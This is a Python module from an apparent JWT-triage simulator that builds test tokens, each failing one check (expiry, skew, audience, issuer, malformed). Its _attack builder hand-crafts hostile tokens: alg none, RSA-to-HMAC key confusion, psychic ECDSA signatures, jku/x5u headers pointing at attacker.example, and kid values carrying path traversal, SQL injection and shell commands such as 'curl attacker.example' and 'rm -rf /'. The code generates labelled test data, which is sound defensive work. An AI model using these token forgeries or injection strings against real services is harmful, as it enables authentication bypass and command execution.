"""The token builders: one per kind of event, each making a token that fails exactly one check.

A builder returns (token, intended cause, message key, client_id): the cause the token was
built to have (the judge's verdict is cross-checked against it in the tests), the key of the
validator message a service would report for it (`cast.STYLE_MESSAGES`), and the client the
event names. Hostile tokens (alg none, key confusion, header injection, psychic signatures)
and malformed ones are hand-built, since PyJWT would refuse or normalise them.
"""

from __future__ import annotations

import hashlib
import hmac
from collections.abc import Callable
from typing import Any

from pipeline.models import Cause
from pipeline.simulator.cast import ISSUER_BY_NAME, ClientSpec, ServiceSpec
from pipeline.simulator.clock import HOUR, MINUTE, SECOND, iso
from pipeline.simulator.keys import P256_ORDER, b64, b64json, raw_sign, strict_b64, strict_object
from pipeline.simulator.plan import Plan
from pipeline.simulator.tokens import Minter, Token

_ATTACKER = "https://attacker.example"

#: (token, intended cause, message key, client_id): see the module docstring.
BuildResult = tuple[Token, Cause, str, str | None]


def _rotation(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """An otherwise valid token whose key timing is the whole story."""
    assert client is not None and plan.kid is not None
    intended = {
        "rotation-stale-cache": Cause.STALE_JWKS,
        "rotation-unpublished-key": Cause.UNPUBLISHED_KEY,
        "rotation-retired-key": Cause.RETIRED_KEY,
    }[plan.kind]
    if plan.kind != "rotation-retired-key":
        return minter.ordinary(client, plan.ts, plan.kid), intended, intended.value, client.name
    # A long-lived token signed with the old key before the switch, still unexpired now.
    kid = plan.kid
    since = minter.world.lanes[(client.issuer or "", client.lane)]
    until = next(s for k, s in since if s is not None and k != kid)
    lifetime = client.lifetime_s * SECOND

    def fits(t: Token) -> bool:
        return t.signed_with == kid and t.exp is not None and t.exp * SECOND >= plan.ts + MINUTE

    def make() -> Token:
        low = plan.ts - lifetime + MINUTE
        high = until - MINUTE
        signed = minter.rng.randrange(low, high) if high > low else high
        return minter.mint(client, signed, kid=kid)

    token = minter.reuse((client.name, f"long:{kid}"), fits, make)
    return token, intended, intended.value, client.name


def _expired(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """A token kept past its exp (a tab left open, a refresh that failed): far beyond skew."""
    assert client is not None
    leeway = service.leeway_s * SECOND

    def overshoot(t: Token) -> int:
        return plan.ts - ((t.exp or 0) * SECOND + leeway)

    def fits(t: Token) -> bool:
        return 330 * SECOND <= overshoot(t) <= 10 * HOUR

    def make() -> Token:
        late = 330 * SECOND + min(round(minter.rng.expovariate(1 / (50 * MINUTE))), 9 * HOUR)
        exp = (plan.ts - leeway - late) // SECOND
        iat = exp - client.lifetime_s
        return minter.mint(client, iat * SECOND, iat=iat, exp=exp)

    token = minter.reuse((client.name, "expired"), fits, make)
    return token, Cause.EXPIRED, "expired", client.name


def _clock_behind(
    minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None
) -> BuildResult:
    """The client's clock is behind, so it keeps sending a token a little past its exp."""
    assert client is not None
    leeway = service.leeway_s * SECOND
    limit = min(295 * SECOND, -client.drift_s * SECOND - leeway)

    def fits(t: Token) -> bool:
        late = plan.ts - ((t.exp or 0) * SECOND + leeway)
        return 2 * SECOND <= late <= limit

    def make() -> Token:
        late = minter.rng.randrange(2 * SECOND, max(limit // 2, 3 * SECOND))  # first retry: soon after exp
        exp = (plan.ts - leeway - late) // SECOND
        iat = exp - client.lifetime_s
        return minter.mint(client, iat * SECOND, iat=iat, exp=exp)

    token = minter.reuse((client.name, f"behind:{service.name}"), fits, make)
    return token, Cause.CLOCK_SKEW, "clock_skew_exp", client.name


def _clock_ahead(
    minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None
) -> BuildResult:
    """The token's iat/nbf come from a clock that runs ahead: slightly (skew) or far (not yet valid)."""
    assert client is not None
    leeway = service.leeway_s * SECOND
    far = plan.kind == "clock-far-ahead"
    low, high = (
        (400 * SECOND, client.drift_s * SECOND)
        if far
        else (2 * SECOND, min(294 * SECOND, client.drift_s * SECOND - leeway - SECOND))
    )

    def ahead(t: Token) -> int:
        return (t.iat or 0) * SECOND - (plan.ts + leeway)

    def fits(t: Token) -> bool:
        return (ahead(t) >= 330 * SECOND) if far else (2 * SECOND <= ahead(t) <= 295 * SECOND)

    def make() -> Token:
        # Sent right after minting, so the first use shows nearly the whole drift.
        lead = minter.rng.randrange(max(low, high - 30 * SECOND), max(high, low + 1))
        iat = -((-(plan.ts + leeway + lead)) // SECOND)  # ceil: the overshoot only grows, by < 1 s
        return minter.mint(
            client, plan.ts - minter.rng.randrange(100, 3000), iat=iat, nbf=minter.rng.random() < 0.5
        )

    token = minter.reuse((client.name, f"ahead:{service.name}:{far}"), fits, make)
    intended = Cause.NOT_YET_VALID if far else Cause.CLOCK_SKEW
    return token, intended, "nbf", client.name


def _buggy_validator(
    minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None
) -> BuildResult:
    """A good token the service's validator rejects anyway: not the token's fault."""
    assert client is not None
    return minter.ordinary(client, plan.ts), Cause.VALID, "valid", client.name


def _wrong_audience(
    minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None
) -> BuildResult:
    """The client's ordinary token sent to a service it was not issued for."""
    assert client is not None
    return minter.ordinary(client, plan.ts), Cause.AUDIENCE_MISMATCH, "audience_mismatch", client.name


def _unauthorized_party(
    minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None
) -> BuildResult:
    """A beta build of the mobile app got payments in its audience, but payments-api does not
    list it as an authorized party yet."""
    assert client is not None

    def edit(claims: dict[str, Any]) -> None:
        claims["aud"] = [*claims["aud"], service.audience]

    token = minter.variant(client, plan.ts, f"beta:{service.name}", edit)
    return token, Cause.AUDIENCE_MISMATCH, "audience_mismatch", client.name


def _missing_aud(
    minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None
) -> BuildResult:
    """A legacy integration whose tokens carry no `aud` at all."""
    assert client is not None
    token = minter.variant(client, plan.ts, "no-aud", lambda c: c.pop("aud"))
    return token, Cause.AUDIENCE_MISMATCH, "audience_mismatch", client.name


def _staging(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """A QA tool pointed at prod: signed by the staging issuer, which no prod service accepts."""
    assert client is not None
    return minter.ordinary(client, plan.ts), Cause.ISSUER_MISMATCH, "issuer_mismatch", client.name


def _issuer_typo(
    minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None
) -> BuildResult:
    """A new SDK build writes the issuer with a trailing slash: corp's key, the wrong `iss`."""
    assert client is not None

    def edit(claims: dict[str, Any]) -> None:
        claims["iss"] += "/"

    token = minter.variant(client, plan.ts, "iss-slash", edit)
    return token, Cause.ISSUER_MISMATCH, "issuer_mismatch", client.name


def _missing_claim(
    minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None
) -> BuildResult:
    """A client-credentials token without `sub`, or a portal token without `iat`."""
    assert client is not None
    if client.subject is None:
        return minter.ordinary(client, plan.ts), Cause.MISSING_CLAIM, "missing_claim", client.name
    token = minter.variant(client, plan.ts, "no-iat", lambda c: c.pop("iat"))
    return token, Cause.MISSING_CLAIM, "missing_claim", client.name


def _tampered(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """Someone edited a real token (payload or signature bytes) and kept its known kid."""
    assert client is not None
    base = minter.ordinary(client, plan.ts)
    header, payload, signature = base.text.split(".")
    if plan.kind == "corrupted-signature":
        raw = bytearray(strict_b64(signature))
        raw[len(raw) // 2] ^= 1 + minter.rng.randrange(255)
        text = f"{header}.{payload}.{b64(bytes(raw))}"
    else:
        claims = strict_object(payload)
        claims["scope"] = minter.rng.choice(["admin", "payments.refund", "*"])
        if minter.rng.random() < 0.3:
            claims["sub"] = "user-00001"
        text = f"{header}.{b64json(claims)}.{signature}"
    token = minter.wrap(text, base.signed_with, None, base.iat, base.exp, minter.mode(0.85, 0.15))
    return token, Cause.BAD_SIGNATURE, "bad_signature", client.name


def _dev_key(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """A developer's locally minted token: corp's `iss`, a key no issuer ever published."""
    assert client is not None
    return minter.ordinary(client, plan.ts), Cause.UNKNOWN_KID, "unknown_kid", "web-app"


def _wrong_alg(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """RS512 (not an allowed alg), or RS256 under the kid of an EC key (cannot fit)."""
    assert client is not None
    token = minter.variant(client, plan.ts, "alg", lambda c: None)
    return token, Cause.BAD_ALG, "bad_alg", client.name


def _malformed(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """Not a compact JWS, in the ways real senders get it wrong."""
    assert client is not None
    variant = plan.variant
    mode = minter.mode(0.7, 0.3)
    if variant in ("undefined", "ellipsis"):
        mode = "inline"
    if variant == "undefined":
        text = minter.rng.choice(["undefined", "null", "[object Object]"])
    else:
        base = minter.ordinary(client, plan.ts).text
        header, payload, signature = base.split(".")
        if variant == "bearer-prefix":
            text = f"Bearer {base}"
        elif variant == "truncated":
            text = f"{header}.{payload[: len(payload) // 2]}"
        elif variant == "four-segments":
            text = f"{base}.{b64json({})}"
        elif variant == "header-not-object":
            text = f"{b64json(['RS256', 'JWT'])}.{payload}.{signature}"
        elif variant == "payload-not-json":
            text = f"{header}.{b64(b'user=alice;role=admin')}.{signature}"
        elif variant == "alg-not-string":
            head = strict_object(header)
            head["alg"] = 256
            text = f"{b64json(head)}.{payload}.{signature}"
        elif variant == "exp-not-number":
            claims = strict_object(payload)
            claims["exp"] = iso(claims["exp"] * SECOND)
            text = f"{header}.{b64json(claims)}.{signature}"
        else:  # a token copied from a log that shortened it with an ellipsis
            text = f"{header}.{payload[:24]}\u2026"
    token = Token(text, None, None, None, None, mode, hashlib.sha256(text.encode("utf-8")).hexdigest())
    return token, Cause.MALFORMED, "malformed", client.name


def _jwe(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """An encrypted token (five segments): nothing jwtriage can read."""
    assert client is not None
    header = {"alg": "RSA-OAEP-256", "enc": "A256GCM", "cty": "JWT", "kid": "corp-enc-2026"}
    parts = [b64json(header)] + [
        b64(minter.rng.randbytes(n)) for n in (256, 12, 180 + minter.rng.randrange(200), 16)
    ]
    token = minter.wrap(".".join(parts), None, None, None, None, "inline")
    return token, Cause.UNVERIFIABLE, "unverifiable", client.name


def _attack(minter: Minter, plan: Plan, service: ServiceSpec, client: ClientSpec | None) -> BuildResult:
    """Hand-built hostile tokens; each is judged like any other token, plus its attack labels."""
    keys = minter.world.keys
    corp_rsa = minter.world.signing_key("corp", "rsa", plan.ts)
    now = plan.ts // SECOND
    claims = {"iss": ISSUER_BY_NAME["corp"].url, "sub": "admin", "aud": service.audience, "azp": "web-app",
              "iat": now - 5, "exp": now + 3600, "role": "admin"}  # fmt: skip
    variant = plan.variant
    intended: Cause
    if variant in ("alg-none", "alg-none-kid"):
        header: dict[str, Any] = {"alg": minter.rng.choice(["none", "None", "NONE", "nOnE"]), "typ": "JWT"}
        if variant == "alg-none-kid":
            header["kid"] = "../../../../dev/null"
        text = f"{b64json(header)}.{b64json(claims)}."
        intended = Cause.BAD_ALG
    elif variant in ("key-confusion", "key-confusion-devnull"):
        # The classic: the RSA public key (PEM, as the JWKS publishes it) used as an HMAC secret.
        devnull = variant == "key-confusion-devnull"
        header = {"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null" if devnull else corp_rsa}
        signing_input = f"{b64json(header)}.{b64json(claims)}".encode("ascii")
        secret = b"" if devnull else keys[corp_rsa].public_pem
        text = f"{signing_input.decode()}.{b64(hmac.new(secret, signing_input, hashlib.sha256).digest())}"
        intended = Cause.BAD_ALG
    elif variant in ("psychic-zero", "psychic-order"):
        header = {"alg": "ES256", "typ": "JWT", "kid": "corp-es-2026"}
        half = (0 if variant == "psychic-zero" else P256_ORDER).to_bytes(32, "big")
        text = f"{b64json(header)}.{b64json(claims)}.{b64(half + half)}"
        intended = Cause.BAD_SIGNATURE
    else:
        attacker = keys["att-es-1"] if variant == "jwk-known-kid" else keys["att-rs-1"]
        alg = attacker.alg
        kid = {
            "jku-known-kid": corp_rsa,
            "jwk-known-kid": "corp-es-2026",
            "kid-traversal": "../../../../../../dev/null",
            "kid-sqli": "x' OR '1'='1",
            "kid-command": minter.rng.choice(["key|curl attacker.example", "$(id)", "`id`", "k1; rm -rf /"]),
            "kid-nul": f"{corp_rsa}\x00.pem",
        }.get(variant, "att-rs-1")
        header = {"alg": alg, "typ": "JWT", "kid": kid}
        if variant.startswith("jku"):
            header["jku"] = f"{_ATTACKER}/.well-known/jwks.json"
        elif variant == "x5u":
            header["x5u"] = f"{_ATTACKER}/cert.pem"
        elif variant.startswith("jwk"):
            header["jwk"] = {**attacker.public_jwk, "kid": kid}
        signing_input = f"{b64json(header)}.{b64json(claims)}".encode("ascii")
        text = f"{signing_input.decode()}.{b64(raw_sign(attacker, alg, signing_input))}"
        intended = Cause.BAD_SIGNATURE if variant in ("jku-known-kid", "jwk-known-kid") else Cause.UNKNOWN_KID
    token = minter.wrap(text, None, None, None, None, minter.mode(0.9, 0.1))
    return token, intended, intended.value, minter.rng.choice([None, None, "web-app"])


BUILDERS: dict[str, Callable[[Minter, Plan, ServiceSpec, ClientSpec | None], BuildResult]] = {
    "rotation-stale-cache": _rotation,
    "rotation-unpublished-key": _rotation,
    "rotation-retired-key": _rotation,
    "expired-token-reuse": _expired,
    "clock-behind": _clock_behind,
    "clock-ahead": _clock_ahead,
    "clock-far-ahead": _clock_ahead,
    "buggy-validator": _buggy_validator,
    "wrong-audience": _wrong_audience,
    "unauthorized-party": _unauthorized_party,
    "missing-aud": _missing_aud,
    "staging-token": _staging,
    "issuer-typo": _issuer_typo,
    "missing-claim": _missing_claim,
    "tampered-payload": _tampered,
    "corrupted-signature": _tampered,
    "dev-key": _dev_key,
    "wrong-alg": _wrong_alg,
    "malformed": _malformed,
    "jwe": _jwe,
    "attack": _attack,
}
